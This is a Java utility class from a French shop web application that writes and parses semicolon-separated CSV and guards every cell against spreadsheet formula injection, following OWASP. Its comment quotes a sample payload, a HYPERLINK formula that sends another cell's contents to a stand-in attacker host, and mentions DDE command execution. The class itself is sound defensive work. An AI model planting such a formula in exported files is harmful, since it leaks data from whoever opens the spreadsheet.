package fr.dwwm.comptoir.web;

import java.io.BufferedReader;
import java.io.IOException;
import java.io.Reader;
import java.util.ArrayList;
import java.util.List;

/**
 * The CSV files the shop writes and reads, in the French way (semicolons, RFC 4180
 * quoting), with every cell protected against formula injection. Every CSV the shop
 * serves is written through {@link #line}, so that no export can forget the protection.
 *
 * <p>
 * <strong>Why.</strong> A spreadsheet reads a cell that starts with {@code =}, {@code +},
 * {@code -} or {@code @} as a formula; some strip a leading tab or carriage return first.
 * A product name {@code =HYPERLINK("http://evil.example/?"&B2;"Prix")} typed in the
 * back-office, or brought by an import, would run on the computer of whoever opens the
 * export: a link that sends other cells away, or, with old Excel settings, a command
 * (DDE). Following OWASP ("CSV Injection"), such a cell is written with a single quote in
 * front, which spreadsheets show as text, and always inside double quotes.
 *
 * <p>
 * <strong>Round trip.</strong> An export imported again must give back the very same
 * values, so the reader removes the quote the writer added, and only that one. The writer
 * adds a quote in front of a value that starts with one of those characters, or with a
 * quote followed by one of them or by another quote; the reader ({@link #value}) removes
 * one quote only in front of those same two-character starts. Every value therefore comes
 * back unchanged ({@code "=1"}, {@code "'=1"}, {@code "''"} included), and a value that
 * merely starts with an apostrophe ({@code 'Tis}) is written and read as it is. Numbers
 * need no exception: the shop's prices and stocks are never negative, and a negative
 * number would come back unchanged anyway.
 */
public final class CsvFormat {

	/** The characters a spreadsheet may read as the start of a formula. */
	static final String FORMULA_STARTS = "=+-@\t\r";

	private static final char PROTECTION = '\'';

	private CsvFormat() {
	}

	/**
	 * Writes one record, without its line end.
	 * @param values the values, {@code null} written as an empty cell
	 * @return the cells, each protected and quoted when needed, separated by semicolons
	 */
	public static String line(List<String> values) {
		StringBuilder line = new StringBuilder();
		for (String value : values) {
			if (!line.isEmpty()) {
				line.append(';');
			}
			line.append(cell(value));
		}
		return line.toString();
	}

	/**
	 * Writes one cell: protected when a spreadsheet could run it, quoted when it holds a
	 * separator, a quote or a line break, or when it is protected.
	 * @param value the value, or {@code null} for an empty cell
	 * @return the cell as written in the file
	 */
	public static String cell(String value) {
		String text = (value != null) ? value : "";
		boolean protect = needsProtection(text);
		if (protect) {
			text = PROTECTION + text;
		}
		if (protect || text.contains(";") || text.contains("\"") || text.contains("\n") || text.contains("\r")) {
			return "\"" + text.replace("\"", "\"\"") + "\"";
		}
		return text;
	}

	/**
	 * Reads the value of a cell as {@link #parse} returned it: the protective quote that
	 * {@link #cell} added, if any, is removed.
	 * @param cell the cell's text
	 * @return the value written
	 */
	public static String value(String cell) {
		if (cell.length() >= 2 && cell.charAt(0) == PROTECTION && isProtectable(cell.charAt(1))) {
			return cell.substring(1);
		}
		return cell;
	}

	/**
	 * Reads CSV records (RFC 4180 with semicolons): quoted cells may hold semicolons,
	 * line breaks and doubled quotes. Cells are returned as written, protection included
	 * (see {@link #value}).
	 * @param in the file
	 * @return the records, each a list of cells
	 * @throws IOException when the file cannot be read
	 */
	public static List<List<String>> parse(Reader in) throws IOException {
		List<List<String>> records = new ArrayList<>();
		List<String> record = new ArrayList<>();
		StringBuilder cell = new StringBuilder();
		boolean quoted = false;
		BufferedReader reader = new BufferedReader(in);
		int c;
		while ((c = reader.read()) != -1) {
			char ch = (char) c;
			if (quoted) {
				if (ch == '"') {
					reader.mark(1);
					int next = reader.read();
					if (next == '"') {
						cell.append('"');
					}
					else {
						quoted = false;
						if (next != -1) {
							reader.reset();
						}
					}
				}
				else {
					cell.append(ch);
				}
			}
			else if (ch == '"' && cell.isEmpty()) {
				quoted = true;
			}
			else if (ch == ';') {
				record.add(cell.toString());
				cell.setLength(0);
			}
			else if (ch == '\n') {
				record.add(stripReturn(cell));
				records.add(record);
				record = new ArrayList<>();
				cell.setLength(0);
			}
			else {
				cell.append(ch);
			}
		}
		if (!cell.isEmpty() || !record.isEmpty()) {
			record.add(stripReturn(cell));
			records.add(record);
		}
		return records;
	}

	private static boolean needsProtection(String text) {
		if (text.isEmpty()) {
			return false;
		}
		char first = text.charAt(0);
		return FORMULA_STARTS.indexOf(first) >= 0
				|| (first == PROTECTION && text.length() >= 2 && isProtectable(text.charAt(1)));
	}

	private static boolean isProtectable(char c) {
		return FORMULA_STARTS.indexOf(c) >= 0 || c == PROTECTION;
	}

	private static String stripReturn(StringBuilder cell) {
		int length = cell.length();
		return (length > 0 && cell.charAt(length - 1) == '\r') ? cell.substring(0, length - 1) : cell.toString();
	}

}
